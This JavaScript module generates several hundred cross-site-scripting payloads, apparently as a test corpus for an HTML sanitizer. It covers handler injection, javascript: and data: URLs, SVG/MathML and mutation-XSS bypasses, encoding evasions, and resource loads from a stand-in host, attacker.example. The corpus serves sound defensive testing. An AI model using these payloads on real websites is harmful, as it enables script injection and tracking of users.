// Cross-site-scripting payloads, made by class. Each calls `ran()` if it works, or asks HOST.
const HOST = "https://attacker.example";

const TAGS = [
  "script", "img", "svg", "math", "iframe", "object", "embed", "video", "audio", "source", "details", "body",
  "input", "select", "textarea", "form", "button", "marquee", "style", "link", "meta", "base", "template",
  "noscript", "title", "xmp", "plaintext", "frameset", "portal", "custom-element",
];
const HANDLERS = [
  "onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "onanimationstart", "ontoggle",
  "onpointerenter", "onbeforeinput", "onscroll", "onwheel", "onpaste", "oncopy", "onstart", "onbegin",
];
const SCHEMES = [
  "javascript:ran()", "JaVaScRiPt:ran()", "java\tscript:ran()", "java\nscript:ran()", " javascript:ran()",
  "\u0001javascript:ran()", "&#106;avascript:ran()", "&#x6A;avascript:ran()", "javascript&colon;ran()",
  "data:text/html,<script>ran()</script>", "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==",
  "vbscript:ran()", "blob:null/1", "view-source:javascript:ran()", `${HOST}/x`,
];
const SVG = [
  "<svg onload=ran()>", "<svg><script>ran()</script></svg>", "<svg><animate onbegin=ran() attributeName=x dur=1s>",
  "<svg><set attributeName=href to=javascript:ran()><a><text>x</text></a></svg>",
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>ran()</script></svg>#x">`,
  "<svg><foreignObject><iframe onload=ran()></iframe></foreignObject></svg>",
  `<svg><image href="${HOST}/i.svg"></svg>`, "<svg><style>@import url(x)</style></svg>",
  "<svg><a xlink:href=javascript:ran()><rect width=9 height=9 /></a></svg>", "<svg><title><img src=x onerror=ran()></title></svg>",
];
const MATHML = [
  "<math href=javascript:ran()>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:ran()>x</maction></math>",
  "<math><mtext><table><mglyph><style><img src=x onerror=ran()></style></mglyph></table></mtext></math>",
  "<math><annotation-xml encoding='text/html'><script>ran()</script></annotation-xml></math>",
  "<math><mi//xlink:href='data:x,<script>ran()</script>'>", "<math><semantics><annotation-xml><svg onload=ran()>",
];
const MUTATION = [
  "<noscript><p title='</noscript><img src=x onerror=ran()>'>", "<svg></p><style><a id='</style><img src=x onerror=ran()>'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>", "<listing>&lt;img src=x onerror=ran()&gt;</listing>",
  "<xmp></xmp><img src=x onerror=ran()></xmp>", "<textarea></textarea><img src=x onerror=ran()>", "<title></title><svg onload=ran()>",
  "<a href='x`x'onmouseover=ran()>x", "<img alt='``onerror=ran()' src=x>", "<p id='--><img src=x onerror=ran()>'>",
  "<!--><img src=x onerror=ran()>-->", "<!-- --!><img src=x onerror=ran()> -->", "<![CDATA[<img src=x onerror=ran()>]]>",
  "<?xml-stylesheet href=javascript:ran()?>", "<%<img src=x onerror=ran()>%>", "</p><script>ran()</script>",
  "<template><script>ran()</script></template>", "<template><img src=x onerror=ran()></template>",
  "<div><template shadowrootmode=open><script>ran()</script></template></div>", "<select><iframe onload=ran()></iframe></select>",
  "<table><tr><script>ran()</script></tr></table>", "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
];
const ENCODINGS = [
  "&lt;script&gt;ran()&lt;/script&gt;", "&#60;script&#62;ran()&#60;/script&#62;", "&#x3c;img src=x onerror=ran()&#x3e;",
  "\u003cscript\u003eran()\u003c/script\u003e", "%3Cscript%3Eran()%3C/script%3E", "＜script＞ran()＜/script＞",
  "+ADw-script+AD4-ran()+ADw-/script+AD4-", "<\0script>ran()</\0script>", "<scr\0ipt>ran()</scr\0ipt>",
  "<script\u2028>ran()</script>", "<IMG SRC=x OnErRoR=ran()>", "<img/src=x/onerror=ran()>", "<img\fsrc=x\fonerror=ran()>",
  "<img src=x onerror\n=\nran()>", "<<script>ran()//<</script>", "<script x>ran()</script x>", "<script>ran()", "<img src=x onerror=ran()//",
  "\uD800<img src=x onerror=ran()>", "\u202E>)(nar=rorreno x=crs gmi<", "<ſcript>ran()</ſcript>", "<ⅰmg src=x onerror=ran()>",
];
const TEMPLATES = [
  "{{constructor.constructor('ran()')()}}", "${ran()}", "#{ran()}", "<%= ran() %>", "{{ran()}}", "[[ran()]]", "@(ran())",
  "');ran();//", '");ran();//', "'-ran()-'", '"-ran()-"', "`${ran()}`", "\\';ran();//", "</script><script>ran()</script>",
  "--></style></script><script>ran()</script>", "]]><script>ran()</script>", "*/ran()/*", "__proto__", "constructor", "toString",
  "[x](javascript:ran())", "![x](javascript:ran())", `![x](${HOST}/i.png)`, "<javascript:ran()>", "[x]: javascript:ran()",
];

/** A few hundred payloads, each once. */
export const PAYLOADS = [
  ...new Set([
    ...TAGS.map((tag) => `<${tag}>ran()</${tag}>`),
    ...TAGS.map((tag) => `<${tag} src=x href=x data=x onerror=ran() onload=ran() autofocus onfocus=ran()>`),
    ...HANDLERS.map((handler) => `<div ${handler}=ran() tabindex=1 style="animation:x 1s">x</div>`),
    ...HANDLERS.map((handler) => `<input autofocus ${handler}="ran()">`),
    ...HANDLERS.map((handler) => `"><b ${handler}=ran()>x</b>`),
    ...HANDLERS.map((handler) => `' ${handler}='ran()`),
    ...SCHEMES.flatMap((scheme) => [
      `<a href="${scheme}">x</a>`, `<iframe src="${scheme}"></iframe>`, `<form action="${scheme}"><button>x</button></form>`,
      `<meta http-equiv=refresh content="0;url=${scheme}">`, `<base href="${scheme}">`, `<object data="${scheme}"></object>`,
    ]),
    ...SVG, ...MATHML, ...MUTATION, ...ENCODINGS, ...TEMPLATES,
    `<img src="${HOST}/pixel.png">`, `<link rel=stylesheet href="${HOST}/x.css">`, `<style>@import "${HOST}/x.css";</style>`,
    `<p style="background:url(${HOST}/x)">x</p>`, `<link rel=prefetch href="${HOST}">`, `<img srcset="${HOST}/a 1x">`,
    `<video poster="${HOST}/p.png">`, `<link rel=dns-prefetch href="${HOST}">`, `<a ping="${HOST}" href=x>x</a>`,
  ]),
];
